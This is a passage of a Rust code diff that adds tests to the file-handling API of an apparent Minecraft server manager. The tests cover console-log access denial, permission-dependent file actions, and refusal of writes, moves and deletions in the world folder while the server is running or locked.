+            .await
+            .unwrap();
+        assert_eq!(
+            entries.iter().map(|e| e.name.as_str()).collect::<Vec<_>>(),
+            vec!["server.properties"]
+        );
+        let tree = build_file_tree(&root, &root, 3, 100);
+        assert_eq!(tree.entries.len(), 1);
+
+        let dir = root.join(CONSOLE_LOG_DIR);
+        for path in [dir.clone(), dir.join("console.log")] {
+            let err = check_not_console_log(&root, &path).unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+        }
+        check_not_console_log(&root, &root.join("server.properties")).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_file_actions_follow_file_type_and_permissions() {
+        use crate::auth::permission::UserPermission;
+        use FileAction::*;
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::write(root.join("server.properties"), "motd=A Minecraft Server\n").unwrap();
+        std::fs::write(
+            root.join("server.jar"),
+            [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52],
         )
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/url",
-            get(get_instance_file_url),
+        .unwrap();
+        std::fs::copy("testdata/sample.zip", root.join("backup.zip")).unwrap();
+        let uuid = InstanceUuid::from("INSTANCE_survival".to_string());
+
+        let mut permissions = UserPermission::new();
+        permissions.can_read_instance_file.insert(uuid.clone());
+        permissions.can_write_instance_file.insert(uuid.clone());
+        let user = AuthorizedUser::new(
+            User::new("alice".to_string(), "password", false, false, permissions),
+            false,
+        );
+        let actions = |path: &str| {
+            let (user, uuid, path) = (&user, &uuid, root.join(path));
+            async move { path_actions(user, uuid, root, &path).await }
+        };
+        assert_eq!(
+            actions("server.properties").await.unwrap(),
+            vec![Read, Edit, Download, Copy, Zip, Move, Delete]
+        );
+        // binary, and protected
+        assert_eq!(
+            actions("server.jar").await.unwrap(),
+            vec![Download, Copy, Zip]
+        );
+        assert_eq!(
+            actions("backup.zip").await.unwrap(),
+            vec![Download, Unzip, Copy, Zip, Move, Delete]
+        );
+        assert_eq!(
+            actions("").await.unwrap(),
+            vec![List, Download, Upload, Copy, Zip]
+        );
+        let err = actions("missing.txt").await.unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::NotFound));
+
+        let mut permissions = UserPermission::new();
+        permissions.can_read_instance_file.insert(uuid.clone());
+        let reader = AuthorizedUser::new(
+            User::new("bob".to_string(), "password", false, false, permissions),
+            false,
+        );
+        assert_eq!(
+            path_actions(&reader, &uuid, root, &root.join("server.properties"))
+                .await
+                .unwrap(),
+            vec![Read, Download]
+        );
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_handlers_refuse_writes_into_open_world() {
+        use crate::auth::permission::UserPermission;
+        use crate::test_util::{add_test_user, restore_with_fake_java, test_app_state};
+
+        let temp = tempfile::tempdir().unwrap();
+        let instance = restore_with_fake_java(temp.path(), None).await;
+        let uuid = instance.uuid().await;
+        let root = instance.path().await;
+        std::fs::write(root.join("server.properties"), "level-name=world\n").unwrap();
+        std::fs::create_dir_all(root.join("world")).unwrap();
+        std::fs::write(root.join("notes.txt"), "notes").unwrap();
+        write_test_zip(&root.join("world/old.zip"), &[("old.txt", b"old")]);
+        instance.set_state_for_test(State::Running).await;
+
+        let state = test_app_state(temp.path(), vec![instance.clone().into()]).await;
+        let mut permissions = UserPermission::new();
+        permissions.can_write_instance_file.insert(uuid.clone());
+        let token = add_test_user(&state, "alice", permissions).await;
+        let at = |path: &str| {
+            Query(RelativePathQuery {
+                path: Some(path.to_string()),
+                dest: None,
+            })
+        };
+        let app_state = || axum::extract::State(state.clone());
+        let in_path = || Path((uuid.clone(), String::new()));
+        let no_force = || Query(OpenWorldQuery::default());
+        let auth = || AuthBearer(token.clone());
+        let assert_conflict = |result: Result<Json<()>, Error>| {
+            assert!(matches!(result.unwrap_err().kind, ErrorKind::Conflict));
+        };
+
+        assert_conflict(
+            touch_instance_file(
+                app_state(),
+                in_path(),
+                at("world/level.dat"),
+                no_force(),
+                auth(),
+            )
+            .await,
+        );
+        assert_conflict(
+            new_instance_file(
+                app_state(),
+                in_path(),
+                at("world/new.txt"),
+                no_force(),
+                auth(),
+                Bytes::from_static(b"new"),
+            )
+            .await,
+        );
+        assert_conflict(
+            make_instance_directory(app_state(), in_path(), at("world/new"), no_force(), auth())
+                .await,
+        );
+        assert_conflict(
+            fetch_instance_file(
+                app_state(),
+                in_path(),
+                at("world/fetched.txt"),
+                no_force(),
+                auth(),
+                Json(FetchInstanceFileRequest {
+                    url: "https://example.com/fetched.txt".to_string(),
+                }),
+            )
+            .await,
+        );
+        assert_conflict(
+            copy_instance_files(
+                app_state(),
+                Path(uuid.clone()),
+                no_force(),
+                auth(),
+                Json(CopyInstanceFileRequest {
+                    relative_paths_source: vec![PathBuf::from("notes.txt")],
+                    relative_path_dest: PathBuf::from("world"),
+                }),
+            )
+            .await,
+        );
+        assert_conflict(
+            unzip_instance_file(
+                app_state(),
+                in_path(),
+                at("world/old.zip"),
+                no_force(),
+                auth(),
+                Json(UnzipOption::Normal),
+            )
+            .await,
+        );
+        for path in [
+            "world/level.dat",
+            "world/new.txt",
+            "world/new",
+            "world/fetched.txt",
+            "world/old.txt",
+        ] {
+            assert!(!root.join(path).exists(), "{path}");
+        }
+
+        // next to the world, or once the server is stopped, the same writes go through
+        make_instance_directory(app_state(), in_path(), at("backups"), no_force(), auth())
+            .await
+            .unwrap();
+        assert!(root.join("backups").is_dir());
+        instance.set_state_for_test(State::Stopped).await;
+        touch_instance_file(
+            app_state(),
+            in_path(),
+            at("world/level.dat"),
+            no_force(),
+            auth(),
         )
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/upload",
-            put(upload_instance_file),
+        .await
+        .unwrap();
+        assert!(root.join("world/level.dat").exists());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_locked_instance_refuses_removing_and_moving_world_files() {
+        use crate::auth::permission::UserPermission;
+        use crate::test_util::{add_test_user, restore_with_fake_java, test_app_state};
+
+        let temp = tempfile::tempdir().unwrap();
+        let instance = restore_with_fake_java(temp.path(), None).await;
+        let uuid = instance.uuid().await;
+        let root = instance.path().await;
+        std::fs::write(root.join("server.properties"), "level-name=world\n").unwrap();
+        std::fs::create_dir_all(root.join("world")).unwrap();
+        std::fs::write(root.join("world/level.dat"), "level").unwrap();
+        instance.set_locked(true).await.unwrap();
+
+        let state = test_app_state(temp.path(), vec![instance.clone().into()]).await;
+        let mut permissions = UserPermission::new();
+        permissions.can_write_instance_file.insert(uuid.clone());
+        let token = add_test_user(&state, "alice", permissions).await;
+        let at = |path: &str, dest: Option<&str>| {
+            Query(RelativePathQuery {
+                path: Some(path.to_string()),
+                dest: dest.map(|dest| dest.to_string()),
+            })
+        };
+
+        let err = remove_instance_file(
+            axum::extract::State(state.clone()),
+            Path((uuid.clone(), String::new())),
+            at("world/level.dat", None),
+            Query(OpenWorldQuery::default()),
+            AuthBearer(token.clone()),
         )
-        .layer(DefaultBodyLimit::disable())
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/unzip",
-            put(unzip_instance_file),
+        .await
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Conflict));
+        let err = remove_instance_files_batch(
+            axum::extract::State(state.clone()),
+            Path(uuid.clone()),
+            Query(OpenWorldQuery::default()),
+            AuthBearer(token.clone()),
+            Json(vec![PathBuf::from("world/level.dat")]),
         )
-        .route("/instance/:uuid/fs/zip", put(zip_instance_files))
-        .with_state(state)
+        .await
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Conflict));
+        let err = move_instance_file(
+            axum::extract::State(state.clone()),
+            Path((uuid.clone(), String::new(), String::new())),
+            at("world", Some("world_old")),
+            Query(OpenWorldQuery::default()),
+            AuthBearer(token.clone()),
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Conflict));
+        assert!(root.join("world/level.dat").exists());
+
+        instance.set_locked(false).await.unwrap();
+        remove_instance_file(
+            axum::extract::State(state.clone()),
+            Path((uuid.clone(), String::new())),
+            at("world/level.dat", None),
+            Query(OpenWorldQuery::default()),
+            AuthBearer(token),
+        )
+        .await
+        .unwrap();
+        assert!(!root.join("world/level.dat").exists());
+    }
 }